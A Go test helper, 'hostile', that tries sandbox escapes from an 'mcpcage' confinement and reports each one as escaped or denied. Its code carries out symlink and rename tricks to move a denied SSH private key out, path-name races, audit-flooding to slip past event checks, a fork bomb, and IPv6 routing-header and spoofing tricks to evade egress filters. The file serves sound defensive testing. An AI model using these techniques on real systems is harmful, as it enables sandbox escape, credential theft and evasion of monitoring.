// Command hostile tries one escape from an mcpcage sandbox and reports
// the outcome on stdout: "ESCAPED ..." when the attempt worked, "DENIED
// <error>" when it failed. The sandbox tests run it through the test
// server's run_command tool.
//
// Usage: hostile ATTACK [ARG]
//
//	read PATH | read-compat PATH | write PATH | mount | ptrace | bpf | unshare-user | keyctl |
//	init-module | raw-socket | ping | ping6 | ping-high-bits | vsock | sctp | sctp-default | dccp |
//	netlink-diag | netlink-route | socketpair-inet | io-uring | fork-bomb | euid |
//	connect HOST:PORT | udp-send HOST:PORT | udp-connect HOST:PORT | udp-sendto HOST:PORT | udp-srh FIRST [FINAL]:PORT | open-storm N |
//	unix-connect PATH|@NAME | listen HOST:PORT [SECONDS] |
//	deny-storm N | deny-flood SECONDS THREADS | rename-via-symlink-unlink DIR NAME TO |
//	change truncate|setxattr|chmod|unlink|unlink-over-budget DIR NAME [SYMLINK TARGET [drop]] |
//	change-trick long|long-over|cwdrace|proccwd|deep|longname|leader-gone|renameat|rmabs|rmgo ... | lock-server-stdin |
//	exchange-loop A B (on the host)
package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Println("usage: hostile ATTACK [ARG]")
		os.Exit(2)
	}
	arg := ""
	if len(os.Args) > 2 {
		arg = os.Args[2]
	}
	var err error
	detail := ""
	switch os.Args[1] {
	case "read":
		var b []byte
		b, err = os.ReadFile(arg)
		if err == nil && len(b) == 0 {
			err = fmt.Errorf("empty (masked)")
		}
		detail = fmt.Sprintf("%d bytes", len(b))
	case "read-compat": // the file through the 32-bit open(2) (amd64), in a child
		// The sandbox's answer to a 32-bit call kills the calling thread:
		// a Go process then hangs, so the attempt runs in its own
		// process, watched with a deadline.
		var out string
		if out, err = isolated("read-compat-child", arg); err == nil {
			fmt.Println(out)
			return
		}
	case "read-compat-child":
		var b []byte
		b, err = readCompat(arg)
		detail = fmt.Sprintf("%d bytes", len(b))
		if err == nil {
			detail += ": " + string(b)
		}
	case "write":
		err = os.WriteFile(arg, []byte("pwned"), 0o644)
	case "mount":
		os.MkdirAll("/tmp/mnt", 0o755)
		err = unix.Mount("tmpfs", "/tmp/mnt", "tmpfs", 0, "")
	case "ptrace":
		err = unix.PtraceAttach(1)
	case "bpf":
		var attr [64]byte
		attr[0] = 2 // BPF_MAP_TYPE_ARRAY
		attr[4], attr[8], attr[12] = 4, 4, 1
		_, _, errno := unix.Syscall(unix.SYS_BPF, 0 /* BPF_MAP_CREATE */, uintptr(unsafe.Pointer(&attr[0])), 64)
		err = errnoErr(errno)
	case "unshare-user":
		err = unix.Unshare(unix.CLONE_NEWUSER)
	case "keyctl":
		_, err = unix.AddKey("user", "mcpcage-test", []byte("v"), unix.KEY_SPEC_PROCESS_KEYRING)
	case "init-module":
		_, _, errno := unix.Syscall(unix.SYS_FINIT_MODULE, 0, uintptr(unsafe.Pointer(&[]byte("\x00")[0])), 0)
		err = errnoErr(errno)
	case "raw-socket":
		var fd int
		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
		if err == nil {
			unix.Close(fd)
		}
	case "ping", "ping6", "vsock", "sctp", "sctp-default", "dccp", "netlink-diag", "netlink-route":
		// Sockets no egress hook sees: ICMP datagram ("ping") sockets,
		// AF_VSOCK (the hypervisor's services from a VM), SCTP (also as
		// SOCK_SEQPACKET's default protocol), DCCP, netlink's sock_diag
		// (the host's sockets). netlink-route is what getaddrinfo uses.
		args := map[string][3]int{
			"ping":          {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
			"ping6":         {unix.AF_INET6, unix.SOCK_DGRAM, unix.IPPROTO_ICMPV6},
			"vsock":         {unix.AF_VSOCK, unix.SOCK_STREAM, 0},
			"sctp":          {unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP},
			"sctp-default":  {unix.AF_INET, unix.SOCK_SEQPACKET | unix.SOCK_CLOEXEC, 0},
			"dccp":          {unix.AF_INET, unix.SOCK_DCCP, 0},
			"netlink-diag":  {unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_SOCK_DIAG},
			"netlink-route": {unix.AF_NETLINK, unix.SOCK_RAW | unix.SOCK_CLOEXEC, unix.NETLINK_ROUTE},
		}[os.Args[1]]
		var fd int
		if fd, err = unix.Socket(args[0], args[1], args[2]); err == nil {
			unix.Close(fd)
		}
	case "socketpair-inet":
		// socketpair(2) runs a family's socket creation (and loads its
		// module) before it fails for anything but AF_UNIX.
		_, err = unix.Socketpair(unix.AF_INET, unix.SOCK_SEQPACKET, unix.IPPROTO_SCTP)
	case "ping-high-bits":
		// The protocol with garbage above its 32 bits: the kernel reads
		// an int, a filter comparing 64 bits would see another value.
		r, _, errno := unix.RawSyscall(unix.SYS_SOCKET, unix.AF_INET, unix.SOCK_DGRAM, 1<<32|unix.IPPROTO_ICMP)
		if err = errnoErr(errno); err == nil {
			unix.Close(int(r))
		}
	case "io-uring":
		var params [120]byte
		_, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params[0])), 0)
		err = errnoErr(errno)
	case "fork-bomb":
		var kids []*exec.Cmd
		for len(kids) < 10000 {
			c := exec.Command("/bin/sleep", "30")
			if err = c.Start(); err != nil {
				break
			}
			kids = append(kids, c)
		}
		for _, c := range kids {
			c.Process.Kill()
			c.Wait()
		}
		detail = fmt.Sprintf("started %d", len(kids))
		if err == nil {
			err = nil // 10000 processes: the limit did not hold
		}
	case "connect", "udp-send":
		network := "tcp"
		if os.Args[1] == "udp-send" {
			network = "udp"
		}
		var c net.Conn
		c, err = net.DialTimeout(network, arg, 3*time.Second)
		if err == nil {
			if network == "udp" {
				_, err = c.Write([]byte("ping"))
			}
			c.Close()
		}
	case "connect-loop":
		// connect(2) to arg, refused, os.Args[3] times as fast as it goes:
		// a server flooding the audit log with denials.
		n, _ := strconv.Atoi(os.Args[3])
		refused := 0
		for range n {
			c, derr := net.DialTimeout("tcp", arg, time.Second)
			if derr != nil {
				refused++
				continue
			}
			c.Close()
		}
		err, detail = fmt.Errorf("%d of %d refused", refused, n), ""
	case "udp-connect":
		// connect(2) of a UDP socket: the egress hooks decide it, and
		// nothing is sent (an allowed address leaves no packet on the wire).
		var c net.Conn
		c, err = net.Dial("udp", arg)
		if err == nil {
			c.Close()
		}
	case "udp-sendto":
		// Unconnected UDP: sendto(2) with a destination on each call.
		var pc net.PacketConn
		pc, err = net.ListenPacket("udp", ":0")
		if err == nil {
			var addr *net.UDPAddr
			addr, err = net.ResolveUDPAddr("udp", arg)
			if err == nil {
				_, err = pc.WriteTo([]byte("ping"), addr)
			}
			pc.Close()
		}
	case "udp-srh":
		// udp-srh FIRST [FINAL]:PORT: an IPv6 segment routing header
		// (IPV6_RTHDR type 4, no privilege needed) on a UDP socket, then
		// sendto(FINAL:PORT). The kernel sends the datagram to FIRST; the
		// egress hooks see only FINAL:PORT.
		err = udpSRH(arg, os.Args[3])
	case "udp-spoof":
		// udp-spoof SOURCE DEST:PORT: IPV6_FREEBIND (no privilege needed)
		// lets a socket bind to an address that is not the host's (port
		// 0 passes the bind hooks); then a datagram to DEST:PORT, which
		// the egress hooks check, leaves with SOURCE as its sender.
		err = udpSpoof(arg, os.Args[3])
	case "unix-connect":
		// A unix socket: "@name" is abstract (network namespace wide).
		var c net.Conn
		c, err = net.DialTimeout("unix", arg, 3*time.Second)
		if err == nil {
			_, err = c.Write([]byte("hello from the cage\n"))
			c.Close()
		}
	case "listen":
		// Listen on HOST:PORT and serve one host client (within SECONDS, 15).
		wait := 15
		if len(os.Args) > 3 {
			wait, _ = strconv.Atoi(os.Args[3])
		}
		var ln net.Listener
		ln, err = net.Listen("tcp", arg)
		if err != nil {
			break
		}
		ln.(*net.TCPListener).SetDeadline(time.Now().Add(time.Duration(wait) * time.Second))
		var c net.Conn
		c, err = ln.Accept()
		if err == nil {
			c.Write([]byte("served by the cage\n"))
			detail = "served " + c.RemoteAddr().String()
			c.Close()
		} else {
			err = fmt.Errorf("no client reached %s: %w", ln.Addr(), err)
		}
		ln.Close()
	case "open-storm":
		// Opens of a file that does not exist: a failed open is an event
		// every time (repeated successful opens of one file are folded).
		n, _ := strconv.Atoi(arg)
		for i := 0; i < n; i++ {
			f, e := os.Open("/etc/mcpcage-storm-nonexistent")
			if e == nil {
				f.Close()
			}
		}
		detail = fmt.Sprintf("%d opens", n)
	case "deny-storm":
		// N refused unshare(CLONE_NEWUSER) calls, for the audit's throttle.
		n, _ := strconv.Atoi(arg)
		denied := 0
		for i := 0; i < n; i++ {
			if unix.Unshare(unix.CLONE_NEWUSER) != nil {
				denied++
			}
		}
		detail = fmt.Sprintf("%d of %d refused", denied, n)
		if denied < n {
			err = nil
		} else {
			err = fmt.Errorf("all refused")
		}
	case "deny-flood":
		// deny-flood SECONDS THREADS: THREADS threads call the refused
		// unshare(CLONE_NEWUSER) for SECONDS; how many were answered.
		secs, _ := strconv.Atoi(arg)
		threads, _ := strconv.Atoi(os.Args[3])
		var answered atomic.Int64
		start := time.Now()
		deadline := start.Add(time.Duration(secs) * time.Second)
		var wg sync.WaitGroup
		for i := 0; i < threads; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				runtime.LockOSThread()
				for time.Now().Before(deadline) {
					_ = unix.Unshare(unix.CLONE_NEWUSER)
					answered.Add(1)
				}
			}()
		}
		wg.Wait()
		detail = fmt.Sprintf("answered=%d seconds=%.3f", answered.Load(), time.Since(start).Seconds())
	case "euid":
		fmt.Printf("euid=%d\n", os.Geteuid())
		return
	case "setid":
		detail, err = setID(arg)
	case "rename-via-symlink-storm":
		// rename-via-symlink while failed opens (an event each) keep the
		// session's event budget spent: a rename's event must still reach
		// the daemon, which alone checks where its names lead.
		var opened atomic.Int64
		stop := make(chan struct{})
		defer close(stop)
		go func() {
			for {
				select {
				case <-stop:
					return
				default:
				}
				if f, e := os.Open("/etc/mcpcage-storm-nonexistent"); e == nil {
					f.Close()
				}
				opened.Add(1)
			}
		}()
		for opened.Load() < 50000 {
			runtime.Gosched()
		}
		fallthrough
	case "link-via-symlink", "rename-via-symlink", "exchange-via-symlink", "rename-via-symlink-unlink":
		lnk := filepath.Join(os.Getenv("HOME"), "lnk")
		os.Remove(lnk)
		if err = os.Symlink(arg, lnk); err != nil {
			break
		}
		from, to := filepath.Join(lnk, os.Args[3]), os.Args[4]
		switch os.Args[1] {
		case "link-via-symlink":
			err = unix.Linkat(unix.AT_FDCWD, from, unix.AT_FDCWD, to, 0)
		case "exchange-via-symlink":
			// to (an ordinary file) and the file through the symlink swap
			// names: the denied file lands at to. The symlink's side is
			// named relative to the home, where the symlink is.
			if err = os.Chdir(os.Getenv("HOME")); err == nil {
				err = unix.Renameat2(unix.AT_FDCWD, to, unix.AT_FDCWD, filepath.Join("lnk", os.Args[3]), unix.RENAME_EXCHANGE)
			}
		default:
			err = unix.Renameat(unix.AT_FDCWD, from, unix.AT_FDCWD, to)
			if err == nil && os.Args[1] == "rename-via-symlink-unlink" {
				// At once, so that a check that follows the names
				// afterwards finds no symlink to follow.
				os.Remove(lnk)
			}
		}
		if err != nil {
			break
		}
		var b []byte
		b, err = os.ReadFile(to)
		detail = fmt.Sprintf("read %d bytes through %s", len(b), to)
	case "rename-deep":
		// arg: a writable mount (/work); Args[3]: a key below it whose
		// first component is an ancestor of its denied directory
		// (sub/.ssh/id_ed25519); Args[4]: where to put it. The ancestor
		// goes below a chain of directories longer than PATH_MAX (a
		// rename of nothing denied), then the key leaves through a
		// symlink made there.
		if err = renameDeep(arg, os.Args[3], os.Args[4]); err == nil {
			var b []byte
			b, err = os.ReadFile(os.Args[4])
			detail = fmt.Sprintf("read %d bytes through %s", len(b), os.Args[4])
		}
	case "change":
		// arg: truncate | setxattr | chmod | unlink | unlink-over-budget;
		// Args[3]: the working directory (a writable mount, /work);
		// Args[4]: the name the call is given (.ssh/id_ed25519, or
		// lnk/id_ed25519 through a symlink); Args[5] and Args[6], if
		// given: a symlink to make first, and its target (lnk, .ssh);
		// Args[7] "drop": remove the symlink at once after the call.
		// unlink-over-budget first spends the session's kernel event
		// budget on failed opens, so that the unlink comes over it. A
		// change is checked after it is done: the attack waits 10 s for
		// the kill before it says it escaped.
		err = change(arg, os.Args[3], os.Args[4], os.Args[5:])
		if err == nil {
			detail = arg + " " + os.Args[4] + " went unpunished for 10 s"
			time.Sleep(10 * time.Second) // the attack's own pacing: time for a kill
		}
	case "hint-race-unlink":
		// arg: a denied directory (/work/.ssh); Args[3]: a name in it.
		// The working directory is the denied one (chdir is not
		// checked); a sibling thread keeps the name's first byte '/' but
		// for a few ns at a time, so that the kernel unlinks the name as
		// it copied it at the call's entry while the exit program, which
		// reads it at return, sees an absolute name.
		if err = hintRaceUnlink(arg, os.Args[3]); err == nil {
			detail = "unlinked " + filepath.Join(arg, os.Args[3])
		}
	case "flood-then-rename":
		// arg: a writable mount (/work); Args[3]: a denied directory in
		// it (/work/.ssh); Args[4]: the key's name there; Args[5]: where
		// to put it; Args[6]: seconds to flood after the rename. Threads
		// make and remove directories at the bottom of a chain 2000 deep
		// (long paths, costly to resolve), to keep the daemon's rename
		// reader behind; then the key leaves through a symlink removed at
		// once, and the flood goes on, so that the move would be read
		// long before the claim of the kernel's account of it.
		secs, _ := strconv.Atoi(os.Args[6])
		err = floodThenRename(arg, os.Args[3], os.Args[4], os.Args[5], time.Duration(secs)*time.Second)
		if err == nil {
			var b []byte
			b, err = os.ReadFile(os.Args[5])
			detail = fmt.Sprintf("read %d bytes through %s", len(b), os.Args[5])
		}
	case "rename-then-rmdir":
		// arg: a directory inside a denied one (/work/.ssh/keys);
		// Args[3]: the key's name in it; Args[4]: where to put it. The key
		// leaves through a symlink to the denied directory; the directory
		// it left and the symlink are removed at once.
		lnk := filepath.Join(os.Getenv("HOME"), "lnk")
		os.Remove(lnk)
		parent, sub := filepath.Split(arg)
		if err = os.Symlink(parent, lnk); err != nil {
			break
		}
		if err = unix.Renameat(unix.AT_FDCWD, filepath.Join(lnk, sub, os.Args[3]), unix.AT_FDCWD, os.Args[4]); err != nil {
			break
		}
		err = unix.Rmdir(filepath.Join(lnk, sub))
		os.Remove(lnk)
		if err == nil {
			var b []byte
			b, err = os.ReadFile(os.Args[4])
			detail = fmt.Sprintf("read %d bytes through %s", len(b), os.Args[4])
		}
	case "clone-files":
		err = cloneFiles(arg)
	case "exchange-loop": // exchange-loop A B: swap two names until killed (run on the host, as a user)
		for {
			_ = unix.Renameat2(unix.AT_FDCWD, arg, unix.AT_FDCWD, os.Args[3], unix.RENAME_EXCHANGE)
		}
	case "sleeper":
		signal.Ignore(syscall.SIGTERM, syscall.SIGHUP)
		os.WriteFile(arg, []byte(strconv.Itoa(os.Getpid())), 0o644)
		time.Sleep(10 * time.Minute)
		return
	case "wait-read":
		signal.Ignore(syscall.SIGTERM, syscall.SIGHUP, syscall.SIGPIPE)
		os.WriteFile(filepath.Join(arg, "ready"), []byte(strconv.Itoa(os.Getpid())), 0o644)
		for {
			if _, err := os.Stat(filepath.Join(arg, "go")); err == nil {
				break
			}
			time.Sleep(20 * time.Millisecond)
		}
		os.WriteFile(filepath.Join(arg, "opening"), nil, 0o644)
		b, err := os.ReadFile(os.Args[3])
		if err == nil {
			os.WriteFile(filepath.Join(arg, "leaked"), b, 0o644)
		} else {
			os.WriteFile(filepath.Join(arg, "refused"), []byte(err.Error()), 0o644)
		}
		time.Sleep(10 * time.Minute)
		return
	case "change-trick": // see changetricks.go
		detail, err = changeTrick(os.Args[2:])
	case "fs-check": // see fschecks.go
		detail, err = fsCheck(os.Args[2:])
	case "lock-server-stdin": // see stdinlock.go
		detail, err = lockServerStdin()
	case "lock-server-stdin-child":
		holdServerStdinLock()
		return
	default:
		fmt.Println("unknown attack", os.Args[1])
		os.Exit(2)
	}
	if errors.Is(err, errNoCompat) {
		fmt.Println("UNSUPPORTED " + err.Error())
		return
	}
	if err != nil {
		fmt.Println(strings.TrimSpace("DENIED " + err.Error() + " " + detail))
		return
	}
	fmt.Println(strings.TrimSpace("ESCAPED " + detail))
}

// isolated runs this program's attack in a child process and returns
// its verdict line; a child killed by a signal, or still running after
// 10 s (a thread of it killed), is an error.
func isolated(attack, arg string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, os.Args[0], attack, arg).Output()
	switch {
	case ctx.Err() != nil:
		return "", fmt.Errorf("killed: the call never returned (its thread was killed)")
	case err != nil:
		return "", fmt.Errorf("killed: %v", err)
	}
	return strings.TrimSpace(string(out)), nil
}

// errNoCompat: the attack needs a 32-bit system call entry this kernel or
// architecture lacks ("UNSUPPORTED", neither escaped nor denied).
var errNoCompat = errors.New("no 32-bit system call entry here")

// cloneFiles starts a process on the helper's descriptor table, then
// opens path. The child (a copy of this thread only, so it keeps to raw
// system calls) reads descriptors 3..31 for a few seconds and prints
// what the first readable one holds.
func cloneFiles(path string) error {
	pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_FILES|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	if pid == 0 {
		siblingRead()
	}
	f, err := os.Open(path) // the kernel kills this process here
	if err != nil {
		return err
	}
	f.Close()
	var ws unix.WaitStatus
	unix.Wait4(int(pid), &ws, 0, nil)
	return nil
}

//go:nosplit
func siblingRead() {
	var buf [256]byte
	ts := unix.Timespec{Nsec: 1000000}
	for i := 0; i < 5000; i++ {
		for fd := uintptr(3); fd < 32; fd++ {
			n, _, e := unix.RawSyscall(unix.SYS_PREAD64, fd, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)))
			if e == 0 && n > 0 && n < uintptr(len(buf)) {
				msg := [...]byte{'E', 'S', 'C', 'A', 'P', 'E', 'D', ' ', 's', 'i', 'b', 'l', 'i', 'n', 'g', ' ', 'r', 'e', 'a', 'd', '\n'}
				unix.RawSyscall(unix.SYS_WRITE, 1, uintptr(unsafe.Pointer(&msg[0])), uintptr(len(msg)))
				unix.RawSyscall(unix.SYS_EXIT_GROUP, 0, 0, 0)
			}
		}
		unix.RawSyscall(unix.SYS_NANOSLEEP, uintptr(unsafe.Pointer(&ts)), 0, 0)
	}
	unix.RawSyscall(unix.SYS_EXIT_GROUP, 1, 0, 0)
}

func errnoErr(e unix.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// renameDeep moves key's first directory below work/D and 17 directories
// of 250 bytes (a path longer than PATH_MAX), then renames the key out of
// it through a symlink made in the deepest directory.
func renameDeep(work, key, to string) error {
	fd, err := unix.Open(work, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	long := strings.Repeat("x", 250)
	for _, name := range append([]string{"D"}, slices.Repeat([]string{long}, 17)...) {
		if err := unix.Mkdirat(fd, name, 0o777); err != nil && !errors.Is(err, unix.EEXIST) {
			return err
		}
		next, err := unix.Openat(fd, name, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		unix.Close(fd)
		if err != nil {
			return err
		}
		fd = next
	}
	defer unix.Close(fd)
	first, _, _ := strings.Cut(key, "/")
	if err := unix.Renameat(unix.AT_FDCWD, filepath.Join(work, first), fd, first); err != nil {
		return err
	}
	if err := unix.Fchdir(fd); err != nil {
		return err
	}
	dir, base := filepath.Split(key)
	if err := os.Symlink(dir, "l"); err != nil {
		return err
	}
	return unix.Renameat(unix.AT_FDCWD, filepath.Join("l", base), unix.AT_FDCWD, to)
}

// floodThenRename is the attack "flood-then-rename".
func floodThenRename(mount, denied, key, to string, flood time.Duration) error {
	fd, err := unix.Open(mount, unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	for i := 0; i < 2000; i++ {
		if err := unix.Mkdirat(fd, "d", 0o700); err != nil && !errors.Is(err, unix.EEXIST) {
			return err
		}
		next, err := unix.Openat(fd, "d", unix.O_PATH|unix.O_DIRECTORY, 0)
		unix.Close(fd)
		if err != nil {
			return err
		}
		fd = next
	}
	var stop atomic.Bool
	var removed atomic.Int64
	for k := 0; k < 4; k++ {
		go func() {
			runtime.LockOSThread()
			name := fmt.Sprintf("x%d", k)
			for !stop.Load() {
				unix.Mkdirat(fd, name, 0o700)
				if unix.Unlinkat(fd, name, unix.AT_REMOVEDIR) == nil {
					removed.Add(1)
				}
			}
		}()
	}
	// The flood under way first: 20,000 removals, or 20 s of them where
	// the sandbox's CPU share makes them slow (the move still comes in
	// the middle of the flood).
	for start := time.Now(); removed.Load() < 20_000 && time.Since(start) < 20*time.Second; {
		runtime.Gosched()
	}
	lnk := filepath.Join(os.Getenv("HOME"), "lnk")
	os.Remove(lnk)
	if err := os.Symlink(denied, lnk); err != nil {
		return err
	}
	err = unix.Renameat(unix.AT_FDCWD, filepath.Join(lnk, key), unix.AT_FDCWD, to)
	os.Remove(lnk)
	if err != nil {
		return err
	}
	time.Sleep(flood) // the attack's own pacing: the flood goes on
	stop.Store(true)
	return nil
}

// change is the attack "change"; link: the symlink, its target, "drop".
func change(op, dir, name string, link []string) error {
	if err := os.Chdir(dir); err != nil {
		return err
	}
	if len(link) >= 2 {
		if err := os.Symlink(link[1], link[0]); err != nil {
			return err
		}
	}
	var err error
	switch op {
	case "truncate":
		err = unix.Truncate(name, 0)
	case "setxattr":
		err = unix.Setxattr(name, "user.mcpcage", []byte("x"), 0)
	case "chmod":
		err = unix.Chmod(name, 0o644)
	case "unlink":
		err = unix.Unlink(name)
	case "unlink-over-budget":
		spendEventBudget()
		err = unix.Unlink(name)
	default:
		return fmt.Errorf("unknown change %q", op)
	}
	if len(link) >= 3 && link[2] == "drop" {
		// At once: a check that resolves the name afterwards finds no
		// symlink to follow.
		_ = unix.Unlink(link[0])
	}
	return err
}

// spendEventBudget spends the session's kernel event budget (2000
// events per 100 ms window; a window starts at the first event 100 ms
// after the last one started) so that the caller's next call comes over
// it. Failed opens in a row could straddle a window's end on a slow day,
// and the call would land in a fresh window: so the burst starts after
// 110 ms without events, when the next event starts a window, and is
// made again while it took longer than 50 ms. The pause is the kernel's
// own unit of time, not a wait for something to happen.
func spendEventBudget() {
	for attempt := 0; attempt < 20; attempt++ {
		time.Sleep(110 * time.Millisecond)
		start := time.Now()
		for i := 0; i < 2500; i++ {
			if fd, err := unix.Open(fmt.Sprintf("missing-%d", i), unix.O_RDONLY, 0); err == nil {
				unix.Close(fd)
			}
		}
		if time.Since(start) < 50*time.Millisecond {
			return
		}
	}
}

// hintRaceUnlink is the attack "hint-race-unlink": it tries for up to
// 20 s, until an unlink succeeds.
func hintRaceUnlink(dir, name string) error {
	runtime.LockOSThread()
	if err := unix.Chdir(dir); err != nil {
		return err
	}
	buf := append([]byte(name), 0)
	first := buf[0]
	b0 := &buf[0]
	*b0 = '/'
	var stop atomic.Bool
	defer stop.Store(true)
	go func() {
		runtime.LockOSThread()
		for !stop.Load() {
			*b0 = first
			for i := 0; i < 20; i++ {
				runtime.KeepAlive(i)
			}
			*b0 = '/'
			for i := 0; i < 3000; i++ {
				runtime.KeepAlive(i)
			}
		}
	}()
	atFDCWD := unix.AT_FDCWD // a variable: -100 as a uintptr is not a constant expression
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); {
		if _, _, e := unix.Syscall(unix.SYS_UNLINKAT, uintptr(atFDCWD), uintptr(unsafe.Pointer(b0)), 0); e == 0 {
			return nil
		}
	}
	return errors.New("no unlink got through in 20 s")
}

// udpSRH sends "mcpcage-srh-ping" to final (an IPv6 [addr]:port) through
// a segment routing header whose first segment is first.
func udpSRH(first, final string) error {
	return udp6Trick(first, final, "mcpcage-srh-ping", func(fd int, hop netip.Addr, to netip.AddrPort) error {
		// next header, length (8-byte units past the first 8), type 4,
		// segments left 1, last entry 1, flags, tag; then the segments in
		// reverse order of travel: the final one first.
		srh := []byte{0, 4, 4, 1, 1, 0, 0, 0}
		a, b := to.Addr().As16(), hop.As16()
		srh = append(append(srh, a[:]...), b[:]...)
		if err := unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, string(srh)); err != nil {
			return fmt.Errorf("setsockopt IPV6_RTHDR: %w", err)
		}
		return nil
	})
}

// udpSpoof sends "mcpcage-spoof" from source (any IPv6 address, bound
// with IPV6_FREEBIND) to final.
func udpSpoof(source, final string) error {
	return udp6Trick(source, final, "mcpcage-spoof", func(fd int, from netip.Addr, _ netip.AddrPort) error {
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_FREEBIND, 1); err != nil {
			return fmt.Errorf("setsockopt IPV6_FREEBIND: %w", err)
		}
		if err := unix.Bind(fd, &unix.SockaddrInet6{Addr: from.As16()}); err != nil {
			return fmt.Errorf("bind %s: %w", from, err)
		}
		return nil
	})
}

// udp6Trick sends payload to final (an IPv6 [addr]:port) from a UDP
// socket that prepare has set up with the other address, addr.
func udp6Trick(addr, final, payload string, prepare func(fd int, addr netip.Addr, to netip.AddrPort) error) error {
	to, err := netip.ParseAddrPort(final)
	if err != nil {
		return err
	}
	other, err := netip.ParseAddr(addr)
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := prepare(fd, other, to); err != nil {
		return err
	}
	return unix.Sendto(fd, []byte(payload), 0, &unix.SockaddrInet6{Port: int(to.Port()), Addr: to.Addr().As16()})
}
